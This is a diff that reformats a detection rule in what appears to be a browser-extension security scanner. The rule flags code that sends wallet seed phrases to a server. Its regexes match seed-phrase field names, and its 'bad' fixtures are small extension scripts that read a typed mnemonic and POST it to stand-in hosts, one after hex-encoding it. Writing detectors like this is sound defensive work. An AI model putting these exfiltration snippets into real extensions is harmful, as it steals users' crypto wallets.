@@ -7,7 +7,8 @@ import { few } from './usage.ts';
 
 const WORDS = /seed|mnemonic|recovery.?phrase|secret.?phrase|private.?key|12.?word|24.?word|backup.?phrase/i;
 /** Fields, variables and keys that hold a wallet's phrase. */
-const PHRASE = /^(seed(_?phrase|_?words?)?|mnemonic(s|_?phrase)?|(recovery|secret|backup)_?phrase|phrase|private_?key|keyphrase)$/i;
+const PHRASE =
+  /^(seed(_?phrase|_?words?)?|mnemonic(s|_?phrase)?|(recovery|secret|backup)_?phrase|phrase|private_?key|keyphrase)$/i;
 
 export const walletPhraseSent = defineRule({
   id: 'wallet-phrase-sent',
@@ -23,7 +24,11 @@ export const walletPhraseSent = defineRule({
   cap: { grade: 'F', reason: 'it sends the secret of wallets to a server' },
   check: checkScripts(function* ({ script, hit }) {
     if (!mentions(script, WORDS)) return;
-    const typed = new Set(few(readsNamed(script, 'value', 'innerText', 'textContent'), 400).filter((value) => nameOf(script, value) === 'value' || isPhrase(script, value)));
+    const typed = new Set(
+      few(readsNamed(script, 'value', 'innerText', 'textContent'), 400).filter(
+        (value) => nameOf(script, value) === 'value' || isPhrase(script, value),
+      ),
+    );
     const named = new Set([...typed].filter((value) => isPhrase(script, script.a[value] as number)));
     const whole = leavesBy(script, named, ['network']);
     if (whole !== undefined) {
@@ -40,13 +45,53 @@ export const walletPhraseSent = defineRule({
   }),
   examples: {
     bad: [
-      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<form id="f"><textarea name="seed"></textarea></form><script src="p.js"></script>', 'p.js': 'document.getElementById("f").addEventListener("submit", (e) => { const words = e.target.seed.value.trim(); fetch("https://x.example/import", { method: "POST", body: JSON.stringify({ m: words }) }); });' } },
-      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<input id="w1"><input id="w2"><script src="p.js"></script>', 'p.js': 'const mnemonic = [w1, w2].map((i) => i.value).join(" "); fetch("https://x.example/i?p=" + encodeURIComponent(mnemonic));' } },
-      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<textarea id="mnemonic"></textarea><script src="p.js"></script>', 'p.js': 'const code = (list) => "0x" + list.map((w) => WORDS.indexOf(w).toString(16)).join(""); go.onclick = () => { const w = document.getElementById("mnemonic").value.split(" "); fetch("https://node.example", { method: "POST", body: JSON.stringify({ method: "pay", params: [code(w)] }) }); };' } },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
+          'p.html': '<form id="f"><textarea name="seed"></textarea></form><script src="p.js"></script>',
+          'p.js':
+            'document.getElementById("f").addEventListener("submit", (e) => { const words = e.target.seed.value.trim(); fetch("https://x.example/import", { method: "POST", body: JSON.stringify({ m: words }) }); });',
+        },
+      },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
+          'p.html': '<input id="w1"><input id="w2"><script src="p.js"></script>',
+          'p.js':
+            'const mnemonic = [w1, w2].map((i) => i.value).join(" "); fetch("https://x.example/i?p=" + encodeURIComponent(mnemonic));',
+        },
+      },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
+          'p.html': '<textarea id="mnemonic"></textarea><script src="p.js"></script>',
+          'p.js':
+            'const code = (list) => "0x" + list.map((w) => WORDS.indexOf(w).toString(16)).join(""); go.onclick = () => { const w = document.getElementById("mnemonic").value.split(" "); fetch("https://node.example", { method: "POST", body: JSON.stringify({ method: "pay", params: [code(w)] }) }); };',
+        },
+      },
     ],
     good: [
-      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<textarea id="phrase"></textarea><script src="p.js"></script>', 'p.js': 'const mnemonic = document.getElementById("phrase").value; const keys = derive(mnemonic); chrome.storage.session.set({ open: true }); fetch("https://node.example/rpc", { method: "POST", body: JSON.stringify({ method: "eth_blockNumber" }) });' } },
-      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<input id="q"><script src="p.js"></script>', 'p.js': 'const seed = Math.random(); fetch("https://api.example.com/search?q=" + encodeURIComponent(document.getElementById("q").value) + "&seed=" + seed);' } },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
+          'p.html': '<textarea id="phrase"></textarea><script src="p.js"></script>',
+          'p.js':
+            'const mnemonic = document.getElementById("phrase").value; const keys = derive(mnemonic); chrome.storage.session.set({ open: true }); fetch("https://node.example/rpc", { method: "POST", body: JSON.stringify({ method: "eth_blockNumber" }) });',
+        },
+      },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
+          'p.html': '<input id="q"><script src="p.js"></script>',
+          'p.js':
+            'const seed = Math.random(); fetch("https://api.example.com/search?q=" + encodeURIComponent(document.getElementById("q").value) + "&seed=" + seed);',
+        },
+      },
     ],
   },
 });
@@ -55,7 +100,11 @@ function isPhrase(script: ScriptFacts, value: number): boolean {
   if (PHRASE.test(nameOf(script, value))) return true;
   // `document.getElementById('mnemonic')`, `querySelector('#seed-phrase')`
   const made = resolve(script, value);
-  if (script.op[made] !== Op.call || !/^(getElementById|querySelector|\$)$/.test(nameOf(script, script.a[made] as number))) return false;
+  if (
+    script.op[made] !== Op.call ||
+    !/^(getElementById|querySelector|\$)$/.test(nameOf(script, script.a[made] as number))
+  )
+    return false;
   const words = (constant(script, listOf(script, script.b[made] as number)[0] ?? 0) ?? '').match(/[\w-]+/g) ?? [];
   return words.some((word) => PHRASE.test(word.replaceAll('-', '_')));
 }
